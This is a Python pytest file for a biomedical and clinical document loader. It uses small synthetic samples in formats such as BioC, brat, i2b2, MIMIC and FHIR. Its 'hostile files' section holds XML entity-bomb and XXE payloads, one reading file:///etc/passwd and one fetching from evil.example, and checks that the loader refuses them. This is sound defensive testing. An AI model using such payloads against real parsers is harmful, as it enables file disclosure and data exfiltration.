"""Every format of documents: small files written to the published specification of each."""

from __future__ import annotations

import base64
import gzip
import json
import lzma
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from itertools import islice
from pathlib import Path

import pytest

from kg.errors import SourceFormatError, UsageError
from loaders.annotations import AnnotatedDocument
from loaders.document_formats import document_format, document_formats
from loaders.documents import document_files, open_annotated, open_documents

BIOC_XML = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE collection SYSTEM "BioC.dtd">
<collection><source>x</source><date>2020</date><key>x.key</key>
<document><id>5</id>
<passage><infon key="type">title</infon><offset>0</offset><text>Aspirin and gout</text>
<annotation id="A1"><infon key="type">Chemical</infon><infon key="identifier">D001241</infon>
<location offset="0" length="7"/><text>Aspirin</text></annotation></passage>
<passage><infon key="type">abstract</infon><offset>17</offset><text>Aspirin worsens gout.</text>
<annotation id="A2"><infon key="type">Disease</infon><infon key="identifier">D006073</infon>
<location offset="33" length="4"/><text>gout</text></annotation></passage>
<relation id="R1"><infon key="type">CID</infon><node refid="A1" role="x"/>
<node refid="A2" role="y"/></relation>
</document></collection>
"""
BIOC_JSON = {
    "source": "x",
    "documents": [
        {
            "id": "5",
            "passages": [
                {
                    "offset": 0,
                    "text": "Aspirin and gout",
                    "annotations": [
                        {
                            "id": "A1",
                            "infons": {"type": "Chemical", "identifier": "D001241"},
                            "text": "Aspirin",
                            "locations": [{"offset": 0, "length": 7}],
                        }
                    ],
                },
                {
                    "offset": 17,
                    "text": "Aspirin worsens gout.",
                    "annotations": [
                        {
                            "id": "A2",
                            "infons": {"type": "Disease", "identifier": "D006073"},
                            "text": "gout",
                            "locations": [{"offset": 33, "length": 4}],
                        }
                    ],
                },
            ],
            "relations": [{"infons": {"type": "CID", "entity1": "D001241", "entity2": "D006073"}}],
        }
    ],
}
BRAT_TEXT = "Aspirin causes rash and severe fever.\n"
BRAT_ANN = (
    "T1\tDrug 0 7\tAspirin\n"
    "T2\tSign 15 19\trash\n"
    "T3\tSign 24 30;31 36\tsevere fever\n"
    "T4\tCause 8 14\tcauses\n"
    "R1\tADE Arg1:T1 Arg2:T2\n"
    "E1\tCause:T4 Agent:T1\n"
    "A1\tNegated T2\n"
    "N1\tReference T1 MESH:D001241\taspirin\n"
    "#1\tAnnotatorNotes T1\ta note\n"
    "*\tEquiv T1 T2\n"
)
I2B2_TEXT = "Admission Note\nThe patient denies chest pain .\nAspirin was given for chest pain .\n"
I2B2_XML = """<?xml version="1.0" encoding="UTF-8" ?>
<ClinicalNarrativeTemporalAnnotation><TEXT><![CDATA[
Admission Date :
09/29/1993
No rash.
]]></TEXT><TAGS>
<EVENT id="E0" start="1" end="10" text="Admission" modality="FACTUAL" polarity="POS"
 type="OCCURRENCE" />
<EVENT id="E1" start="32" end="36" text="rash" modality="FACTUAL" polarity="NEG" type="PROBLEM" />
<TIMEX3 id="T0" start="18" end="28" text="09/29/1993" type="DATE" val="1993-09-29" mod="NA" />
<TLINK id="TL0" fromID="E0" fromText="Admission" toID="T0" toText="09/29/1993" type="OVERLAP" />
</TAGS></ClinicalNarrativeTemporalAnnotation>
"""
DEID_XML = """<?xml version="1.0" encoding="UTF-8" ?>
<deIdi2b2><TEXT><![CDATA[Record date: 2067-05-03
Seen by Dr. Oakley.
]]></TEXT><TAGS>
<DATE id="P0" start="13" end="23" text="2067-05-03" TYPE="DATE" comment="" />
<NAME id="P1" start="36" end="42" text="Oakley" TYPE="DOCTOR" comment="" />
</TAGS></deIdi2b2>
"""
MEDMENTIONS = (
    "25763772|t|DCTN4 in cystic fibrosis\n25763772|a|A study.\n"
    "25763772\t0\t5\tDCTN4\tT116,T123\tC4308010\n"
    "25763772\t9\t24\tcystic fibrosis\tT047\tUMLS:C0010674\n"
)
NOTEEVENTS = (
    '"ROW_ID","SUBJECT_ID","HADM_ID","CHARTDATE","CHARTTIME","STORETIME","CATEGORY",'
    '"DESCRIPTION","CGID","ISERROR","TEXT"\n'
    '174,22532,167853,"2151-08-04",,,"Discharge summary","Report",,,"Admission Date: [**2151**]\n\n'
    'No ""fever"", he said."\n'
    '175,22532,167853,"2151-08-04",,,"Nursing","Report",1,"1","Wrong patient."\n'
)
DISCHARGE = (
    "note_id,subject_id,hadm_id,note_type,note_seq,charttime,storetime,text\n"
    '10000032-DS-21,10000032,22595853,DS,21,2180-05-07 00:00:00,2180-05-09,"Name: ___\nNo rash."\n'
)
CCDA = """<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="2.16" extension="doc-9"/>
<effectiveTime value="20201022163128"/>
<recordTarget><patientRole><id root="2.16" extension="pat-1"/>
<addr><streetAddressLine>336 Oak Gardens</streetAddressLine><city>Bourne</city></addr>
<telecom value="tel:555-0100"/>
<patient><name><given>Angelina</given><family>Barton</family></name></patient>
</patientRole></recordTarget>
<component><structuredBody><component><section><title>Problems</title>
<text><table><tbody><tr><td>Asthma</td>
<td>2019</td></tr></tbody></table><paragraph>No <content>fever</content>.</paragraph></text>
</section></component><component><section><title>Empty</title></section></component>
</structuredBody></component></ClinicalDocument>
"""


def _encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


FHIR = {
    "resourceType": "Bundle",
    "entry": [
        {
            "resource": {
                "resourceType": "Condition",
                "id": "c1",
                "subject": {"reference": "urn:uuid:p1"},
                "code": {"coding": [{"display": "Asthma (disorder)"}]},
                "clinicalStatus": {"coding": [{"code": "active"}]},
                "recordedDate": "2020-03-01T10:00:00Z",
            }
        },
        {
            "resource": {
                "resourceType": "Condition",
                "id": "c2",
                "subject": {"reference": "urn:uuid:p1"},
                "code": {"text": "Gout"},
                "verificationStatus": {"coding": [{"code": "refuted"}]},
            }
        },
        {
            "resource": {
                "resourceType": "MedicationRequest",
                "id": "m1",
                "subject": {"reference": "urn:uuid:p1", "display": "Ada Poe"},
                "medicationCodeableConcept": {"text": "Salbutamol"},
                "reasonReference": [{"reference": "Condition/c1"}],
                "dosageInstruction": [{"text": "Two puffs."}],
            }
        },
        {
            "resource": {
                "resourceType": "AllergyIntolerance",
                "id": "a1",
                "patient": {"reference": "urn:uuid:p1"},
                "code": {"text": "Penicillin"},
                "reaction": [{"manifestation": [{"text": "Rash"}]}],
            }
        },
        {
            "resource": {
                "resourceType": "Observation",
                "id": "o1",
                "subject": {"reference": "urn:uuid:p1"},
                "code": {"text": "Body height"},
                "valueQuantity": {"value": 170.5, "unit": "cm"},
            }
        },
        {
            "resource": {
                "resourceType": "DocumentReference",
                "id": "d1",
                "subject": {"reference": "urn:uuid:p1"},
                "content": [
                    {"attachment": {"contentType": "text/plain", "data": _encoded("No fever.")}},
                    {
                        "attachment": {
                            "contentType": "text/html",
                            "data": _encoded("<p>A <b>cough</b>.</p><script>x</script>"),
                        }
                    },
                    {"attachment": {"contentType": "application/pdf", "data": "AAAA"}},
                    {"attachment": {"url": "https://notes.example/1"}},
                ],
            }
        },
        {"resource": {"resourceType": "Encounter", "id": "e1"}},
        {
            "fullUrl": "urn:uuid:p1",
            "resource": {
                "resourceType": "Patient",
                "id": "p1",
                "name": [{"family": "Poe", "given": ["Ada"]}],
                "address": [{"line": ["1 Elm Street"], "city": "Bourne", "state": "MA"}],
                "identifier": [{"value": "MRN-77"}],
            },
        },
    ],
}
NDJSON = "".join(json.dumps(entry["resource"]) + "\n" for entry in FHIR["entry"])  # type: ignore[index]
CMDD = {
    "example-id": "1",
    "dialogue-content": [
        {"sentence": "有发热么", "label": "OBIO", "normalized": ["发热"], "type": ["3"]},
        {"sentence": "没咳嗽", "label": "OBI", "normalized": ["咳嗽"], "type": ["2"]},
    ],
}


@dataclass(frozen=True)
class Sample:
    """A small file of one format.

    Args:
        format: its name.
        files: contents by file name; the first one is opened.
        texts: what the documents read.
        gold: ``(type, text)`` of the annotations of the first document.
        relations: types of its relations.
        cut: text of the first file right after which it is cut off; "" where that is no error.
        folder: whether the folder is opened as well.
        markup: whether the file is XML.
    """

    format: str
    files: dict[str, str]
    texts: tuple[str, ...]
    gold: tuple[tuple[str, str], ...] = ()
    relations: tuple[str, ...] = ()
    cut: str = ""
    folder: bool = False
    markup: bool = False
    told: bool = True

    def put(self, folder: Path) -> Path:
        for name, content in self.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_text(content, encoding="utf-8", newline="")
        return folder / next(iter(self.files))


TITLED = "Aspirin and gout\nAspirin worsens gout."
GOLD = (("Chemical", "Aspirin"), ("Disease", "gout"))
SAMPLES = (
    Sample("text", {"n.txt": "No fever.\nA cough.\n"}, ("No fever.\nA cough.\n",)),
    Sample(
        "jsonl",
        {"n.jsonl": '{"id": 1, "text": "No fever."}\n{"id": 2, "title": "T", "text": "b"}\n'},
        ("No fever.", "T\nb"),
        cut='{"id": 2',
    ),
    Sample(
        "table",
        {"n.csv": 'pmid,title,abstract\n1,A title,"Words, and\nmore."\n2,,Other.\n'},
        ("A title\nWords, and\nmore.", "Other."),
        cut='"Words',
    ),
    Sample(
        "pubmed",
        {
            "n.xml": "<PubmedArticleSet><PubmedArticle><PMID>1</PMID><ArticleTitle>Gout."
            "</ArticleTitle></PubmedArticle></PubmedArticleSet>"
        },
        ("Gout.",),
        cut="<ArticleTitle>",
        markup=True,
    ),
    Sample(
        "pubtator",
        {
            "n.txt": "5|t|Aspirin and gout\n5|a|Aspirin worsens gout.\n"
            "5\t0\t7\tAspirin\tChemical\tD1\n"
        },
        (TITLED,),
        (("Chemical", "Aspirin"),),
        cut="5\t0",
    ),
    Sample(
        "medmentions",
        {"medmentions_pubtator.txt": MEDMENTIONS},
        ("DCTN4 in cystic fibrosis\nA study.",),
        (("T116,T123", "DCTN4"), ("T047", "cystic fibrosis")),
        cut="25763772\t0",
    ),
    Sample(
        "bioc-xml",
        {"n.xml": BIOC_XML},
        (TITLED,),
        GOLD,
        ("CID",),
        cut="<passage>",
        markup=True,
    ),
    Sample(
        "bioc-json",
        {"n.json": json.dumps(BIOC_JSON, indent=1)},
        (TITLED,),
        GOLD,
        ("CID",),
        cut='"A2"',
    ),
    Sample(
        "brat",
        {"n.txt": BRAT_TEXT, "n.ann": BRAT_ANN},
        (BRAT_TEXT,),
        (
            ("Drug", "Aspirin"),
            ("Cause", "causes"),
            ("Sign", "rash"),
            ("Sign", "severe fever"),
        ),
        ("Agent", "ADE"),
        folder=True,
    ),
    Sample(
        "i2b2-2010",
        {
            "txt/n.txt": I2B2_TEXT,
            "concept/n.con": 'c="chest pain" 2:3 2:4||t="problem"\n'
            'c="Aspirin" 3:0 3:0||t="treatment"\nc="chest pain" 3:4 3:5||t="problem"\n',
            "ast/n.ast": 'c="chest pain" 2:3 2:4||t="problem"||a="absent"\n',
            "rel/n.rel": 'c="Aspirin" 3:0 3:0||r="TrAP"||c="chest pain" 3:4 3:5\n',
        },
        (I2B2_TEXT,),
        (("problem", "chest pain"), ("treatment", "Aspirin"), ("problem", "chest pain")),
        ("TrAP",),
        folder=True,
    ),
    Sample(
        "i2b2-2012",
        {"n.xml": I2B2_XML},
        ("\nAdmission Date :\n09/29/1993\nNo rash.\n",),
        (("OCCURRENCE", "Admission"), ("DATE", "09/29/1993"), ("PROBLEM", "rash")),
        ("OVERLAP",),
        cut="<TAGS>",
        markup=True,
    ),
    Sample(
        "i2b2-2014",
        {"110-01.xml": DEID_XML},
        ("Record date: 2067-05-03\nSeen by Dr. Oakley.\n",),
        (("DATE", "2067-05-03"), ("DOCTOR", "Oakley")),
        cut="<TAGS>",
        markup=True,
    ),
    Sample(
        "mimic-iii",
        {"NOTEEVENTS.csv": NOTEEVENTS},
        ('Admission Date: [**2151**]\n\nNo "fever", he said.',),
        cut='"Admission',
    ),
    Sample("mimic-iv-note", {"discharge.csv": DISCHARGE}, ("Name: ___\nNo rash.",), cut='"Name'),
    Sample(
        "fhir",
        {"b.json": json.dumps(FHIR, indent=1)},
        (
            "Asthma.",
            "No Gout.",
            "Salbutamol was prescribed for Asthma.\nTwo puffs.",
            "Allergy to Penicillin.\nPenicillin caused Rash.",
            "Body height: 170.5 cm.",
            "No fever.",
            "A cough.",
        ),
        cut='"Gout"',
    ),
    Sample(
        "ccda",
        {"c.xml": CCDA},
        ("Problems\nAsthma | 2019\nNo fever.",),
        cut="<section>",
        markup=True,
    ),
    Sample(
        "bio",
        {"n.txt": "有 O\n发 B_symptom\n热 I_symptom\n\n阿 B_drug\n司 I_drug\n"},
        ("有发热", "阿司"),
        (("symptom", "发热"),),
        cut="阿 B_drug\n司 ",
    ),
    Sample(
        "cmdd",
        {"n.jsonl": json.dumps(CMDD, ensure_ascii=False) + "\n"},
        ("有发热么\n没咳嗽",),
        (("symptom", "发热"), ("symptom", "咳嗽")),
        cut='"label"',
    ),
    Sample(
        "cmedic",
        {"n.txt": "2\t什么是焦虑症\n"},
        ("什么是焦虑症",),
        (("2", "什么是焦虑症"),),
        cut="2",
        told=False,
    ),
    Sample(
        "cmedqa",
        {"n.txt": '1\t头痛？\t"多""休息"""\n0\t头痛？\t别的\n'},
        ('头痛？\n多"休息"',),
        cut='"多',
        told=False,
    ),
)
BY_ID = {"ids": lambda sample: sample.format}


def test_every_format_has_a_sample_and_a_card() -> None:
    assert {s.format for s in SAMPLES} == set(document_formats())
    for found in document_formats().values():
        assert found.card.licence
        assert (found.plain is None) != (found.annotated is None)
    clinical = {n for n, found in document_formats().items() if found.clinical}
    assert clinical == {
        *("i2b2-2010", "i2b2-2012", "i2b2-2014"),
        *("mimic-iii", "mimic-iv-note", "fhir", "ccda"),
    }


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
def test_documents_and_gold(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    documents = list(open_documents(path, sample.format))
    assert tuple(d.text for d in documents) == sample.texts
    assert len({d.id for d in documents}) == len(documents)
    known = document_format(sample.format)
    assert {d.clinical for d in documents} == {known.clinical}
    assert all(d.patient for d in documents if d.clinical)
    if sample.told:
        assert [f.format.name for f in document_files(path)] == [sample.format]
        assert list(open_documents(path)) == documents
    if known.annotated is None:
        with pytest.raises(UsageError, match="no annotations"):
            list(open_annotated(path, sample.format))
        return
    first: AnnotatedDocument = next(iter(open_annotated(path, sample.format)))
    for mention in first.mentions:
        assert first.document.text[mention.start : mention.end] == mention.text
    assert tuple((m.type, m.text) for m in first.mentions) == sample.gold
    assert tuple(r.type for r in first.relations) == sample.relations


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
@pytest.mark.parametrize(("suffix", "pack"), [(".gz", gzip.compress), (".xz", lzma.compress)])
def test_packed_files_read_the_same(
    sample: Sample, tmp_path: Path, suffix: str, pack: Callable[[bytes], bytes]
) -> None:
    if sample.format == "i2b2-2010":
        pytest.skip("notes of that challenge come plain")
    path = sample.put(tmp_path / "plain")
    for name in sample.files:
        packed = tmp_path / "packed" / f"{name}{suffix}"
        packed.parent.mkdir(parents=True, exist_ok=True)
        packed.write_bytes(pack((tmp_path / "plain" / name).read_bytes()))
    again = tmp_path / "packed" / f"{path.name}{suffix}"
    texts = [d.text for d in open_documents(again, sample.format)]
    assert tuple(texts) == sample.texts
    again.write_bytes(again.read_bytes()[:-12])
    with pytest.raises(SourceFormatError, match=again.name):
        list(open_documents(again, sample.format))


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.folder], **BY_ID)
def test_folders(sample: Sample, tmp_path: Path) -> None:
    sample.put(tmp_path)
    assert tuple(d.text for d in open_documents(tmp_path, sample.format)) == sample.texts
    assert tuple(d.text for d in open_documents(tmp_path)) == sample.texts


# -- hostile files -------------------------------------------------------------------------

LONGEST = 5_000


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.cut], **BY_ID)
def test_a_file_that_is_cut_off_is_refused(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8")
    at = content.index(sample.cut) + len(sample.cut)
    path.write_text(content[:at], encoding="utf-8", newline="")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
@pytest.mark.parametrize(
    ("content", "what"),
    [(b"\x00" * 20, "NUL"), (b"caf\xe9 \xff\xfe\n", "mis-encoded"), (b"", "empty")],
    ids=["nul", "mis-encoded", "empty"],
)
def test_binary_mis_encoded_and_empty_files_are_refused(
    sample: Sample, tmp_path: Path, content: bytes, what: str
) -> None:
    path = sample.put(tmp_path)
    path.write_bytes(content)
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
def test_bad_bytes_in_the_middle_name_the_file(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    raw = path.read_bytes()
    word = sample.texts[-1].split()[0].encode()[:6]
    at = raw.rfind(word) if word in raw else len(raw) // 2
    for bad in (b"\x00", b"\xff\xfe"):
        path.write_bytes(raw[: at + 1] + bad + raw[at + 1 :])
        with pytest.raises(SourceFormatError, match=path.name):
            list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", SAMPLES, **BY_ID)
def test_a_huge_line_is_refused_before_it_fills_the_memory(sample: Sample, tmp_path: Path) -> None:
    """One value of many times the limit, with a small limit, as one of 100 MB with the real one."""
    path = sample.put(tmp_path)
    word = sample.texts[-1].split()[0]
    word = word if word in path.read_text("utf-8") else word[:1]
    content = path.read_text("utf-8")
    path.write_text(content.replace(word, word + "x" * 200_000), encoding="utf-8", newline="")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format, longest=LONGEST))


BOMBS = (
    '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>',
)


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.markup], **BY_ID)
@pytest.mark.parametrize("bomb", BOMBS, ids=["entities", "outside", "parameter"])
def test_bombs_are_refused(sample: Sample, tmp_path: Path, bomb: str) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8").replace('<!DOCTYPE collection SYSTEM "BioC.dtd">', "")
    head, body = content.split("?>", 1) if "?>" in content else ("", content)
    path.write_text((f"{head}?>" if head else "") + bomb + body, encoding="utf-8")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


@pytest.mark.parametrize("sample", [s for s in SAMPLES if s.markup], **BY_ID)
def test_deep_nesting_is_refused(sample: Sample, tmp_path: Path) -> None:
    path = sample.put(tmp_path)
    content = path.read_text("utf-8")
    at = content.rindex("</")
    path.write_text(content[:at] + "<a>" * 50_000 + content[at:], encoding="utf-8")
    with pytest.raises(SourceFormatError, match=path.name):
        list(open_documents(path, sample.format))


# -- details of single formats ---------------------------------------------------------------


def test_what_is_known_of_a_patient_goes_with_each_document(tmp_path: Path) -> None:
    (tmp_path / "b.json").write_text(json.dumps(FHIR), "utf-8")
    (tmp_path / "x.ndjson").write_text(NDJSON, "utf-8")
    (tmp_path / "c.xml").write_text(CCDA, "utf-8")
    bundle = list(open_documents(tmp_path / "b.json"))
    assert {d.patient for d in bundle} == {"p1"}
    for document in bundle:
        assert {"Poe", "Ada", "1 Elm Street", "Bourne", "MRN-77"} <= set(document.identifiers)
        assert "Poe" not in repr(document)
    assert "Ada Poe" in bundle[2].identifiers
    assert bundle[0].date == "2020-03-01"
    lines = list(open_documents(tmp_path / "x.ndjson"))
    assert [(d.id, d.text, d.patient) for d in lines] == [(d.id, d.text, d.patient) for d in bundle]
    (note,) = open_documents(tmp_path / "c.xml")
    assert (note.id, note.patient, note.date) == ("ccda:doc-9", "pat-1", "2020-10-22")
    assert {"Angelina", "Barton", "336 Oak Gardens", "Bourne", "555-0100"} <= set(note.identifiers)


def test_a_bulk_export_finds_its_patients_beside_it(tmp_path: Path) -> None:
    patient, condition = FHIR["entry"][-1]["resource"], FHIR["entry"][0]["resource"]  # type: ignore[index]
    (tmp_path / "Patient.000.ndjson").write_text(json.dumps(patient) + "\n", "utf-8")
    (tmp_path / "Condition.ndjson").write_text(json.dumps(condition) + "\n", "utf-8")
    (document,) = open_documents(tmp_path / "Condition.ndjson")
    assert "Poe" in document.identifiers


@pytest.mark.parametrize(
    ("attachment", "problem"),
    [({"data": "%%%"}, "no text"), ({"data": "/////w=="}, "no text")],
)
def test_an_attachment_that_is_no_text_names_its_line(
    tmp_path: Path, attachment: dict[str, str], problem: str
) -> None:
    resource = {"resourceType": "DocumentReference", "content": [{"attachment": attachment}]}
    path = tmp_path / "d.ndjson"
    path.write_text(json.dumps({"resourceType": "Basic"}) + "\n" + json.dumps(resource), "utf-8")
    with pytest.raises(SourceFormatError, match=rf"d\.ndjson:2: .*{problem}"):
        list(open_documents(path))


def test_assertions_and_identifiers_of_annotators(tmp_path: Path) -> None:
    by_format = {s.format: s for s in SAMPLES}

    def first(name: str) -> AnnotatedDocument:
        path = by_format[name].put(tmp_path / name)
        return next(iter(open_annotated(path, name)))

    assert [m.assertion for m in first("i2b2-2010").mentions] == ["absent", "", ""]
    assert [m.assertion for m in first("i2b2-2012").mentions] == ["POS FACTUAL", "", "NEG FACTUAL"]
    assert [m.assertion for m in first("cmdd").mentions] == ["possible", "absent"]
    assert [m.identifiers for m in first("medmentions").mentions] == [
        ("UMLS:C4308010",),
        ("UMLS:C0010674",),
    ]
    brat = first("brat").mentions
    assert brat[0].identifiers == ("MESH:D001241",)
    assert (brat[2].assertion, brat[3].pieces) == ("Negated", ((24, 30), (31, 36)))
    assert first("i2b2-2014").document.patient == "110"


@pytest.mark.parametrize(
    ("name", "old", "new", "problem"),
    [
        ("brat", "T1\tDrug 0 7", "T1\tDrug 1 7", r"n\.ann:1: \[1, 7\) is"),
        ("brat", "Arg2:T2", "Arg2:T9", r"n\.ann:5: 'T9' is no annotation"),
        ("brat", "A1\tNegated T2", "A1\tNegated", r"n\.ann:7: "),
        ("brat", "T4\tCause", "?\tCause", r"n\.ann:4: "),
        ("i2b2-2010", 'c="Aspirin" 3:0 3:0||t', 'c="Aspirin" 3:1 3:1||t', r"n\.con:2: 3:1 is"),
        ("i2b2-2010", '2:3 2:4||t="problem"\n', '9:3 9:4||t="problem"\n', r"n\.con:1: no word"),
        ("i2b2-2012", 'start="32" end="36"', 'start="30" end="36"', r"n\.xml:\d+: \[30, 36\)"),
        ("bioc-xml", 'offset="33"', 'offset="933"', r"n\.xml:4: annotation 'A2'"),
        ("bioc-xml", 'offset="33"', 'offset="x"', r"n\.xml:\d+: offset 'x'"),
        ("bioc-json", '"offset": 33', '"offset": 34', r"n\.json:\d+: \[34, 38\)"),
        ("bio", "发 B_symptom", "发 X", r"n\.txt:2: '发 X'"),
        ("cmdd", '"OBIO"', '"OBI"', r"n\.jsonl:1: 3 tags for 4"),
        ("table", "abstract", "words", r"n\.csv:1: no column text"),
        ("mimic-iii", '"ISERROR"', '"ERROR"', r"NOTEEVENTS\.csv:1: no column 'ISERROR'"),
        ("ccda", "ClinicalDocument", "Other", r"c\.xml: a <Other>"),
        ("cmedic", "2\t", "2 ", r"n\.txt:1: "),
    ],
)
def test_a_wrong_line_is_named(tmp_path: Path, name: str, old: str, new: str, problem: str) -> None:
    sample = next(s for s in SAMPLES if s.format == name)
    path = sample.put(tmp_path)
    assert any(old in content for content in sample.files.values())
    for file, content in sample.files.items():
        (tmp_path / file).write_text(content.replace(old, new), encoding="utf-8", newline="")
    with pytest.raises(SourceFormatError, match=problem):
        list(open_documents(path, name))


def test_columns_are_named(tmp_path: Path) -> None:
    path = tmp_path / "n.tsv"
    path.write_text("key\twords\nx\tNo fever.\n", "utf-8")
    (document,) = open_documents(path, columns={"text": "words"})
    assert (document.id, document.text) == ("x", "No fever.")
    with pytest.raises(SourceFormatError, match="no column nothing"):
        list(open_documents(path, columns={"text": "nothing"}))
    with pytest.raises(UsageError, match="'body' is none of"):
        list(open_documents(path, columns={"body": "words"}))


def test_half_a_character_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "n.jsonl"
    path.write_text('{"id": 1, "text": "a \\ud800 b"}', "utf-8")
    with pytest.raises(SourceFormatError, match="half a character"):
        list(open_documents(path))


WORDS = "Migraine is treated with propranolol. " * 20


def _in_bundle(number: int) -> str:
    note = {"id": str(number), "resourceType": "Condition", "code": {"text": "Asthma"}}
    entry = {"resource": {**note, "note": [{"text": WORDS}]}}
    return ("," if number else "") + json.dumps(entry)


def _in_collection(number: int) -> str:
    document = {"id": f"x{number}", "passages": [{"offset": 0, "text": WORDS}]}
    return ("," if number else "") + json.dumps(document)


LARGE: dict[str, tuple[str, str, Callable[[int], str], str]] = {
    "jsonl": ("n.jsonl", "", lambda n: json.dumps({"id": n, "text": WORDS}) + "\n", ""),
    "table": ("n.csv", "id,text\n", lambda n: f"{n},{WORDS}\n", ""),
    "pubtator": ("n.pubtator", "", lambda n: f"{n}|t|T\n{n}|a|{WORDS}\n\n", ""),
    "fhir": ("n.json", '{"resourceType": "Bundle", "entry": [', _in_bundle, "]}"),
    "bioc-json": ("n.json", '{"source": "x", "documents": [', _in_collection, "]}"),
    "bioc-xml": (
        "n.xml",
        "<collection>",
        lambda n: (
            f"<document><id>{n}</id><passage><offset>0</offset><text>{WORDS}</text></passage>"
            "</document>"
        ),
        "</collection>",
    ),
    "pubmed": (
        "n.xml",
        "<PubmedArticleSet>",
        lambda n: (
            f"<PubmedArticle><PMID>{n}</PMID><Abstract><AbstractText>{WORDS}</AbstractText>"
            "</Abstract></PubmedArticle>"
        ),
        "</PubmedArticleSet>",
    ),
}


@pytest.mark.parametrize("name", LARGE)
def test_memory_does_not_grow_with_the_file(name: str, tmp_path: Path) -> None:
    file, head, row, tail = LARGE[name]
    path = tmp_path / file
    with path.open("w", encoding="utf-8") as stream:
        stream.write(head)
        stream.writelines(map(row, range(3_000)))
        stream.write(tail)
    documents = open_documents(path, name)
    tracemalloc.start()
    try:
        early = max(tracemalloc.get_traced_memory()[1] for _ in islice(documents, 300))
        assert sum(1 for _ in documents) == 2_700
        late = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert path.stat().st_size > 2_000_000
    assert late - early < 600_000
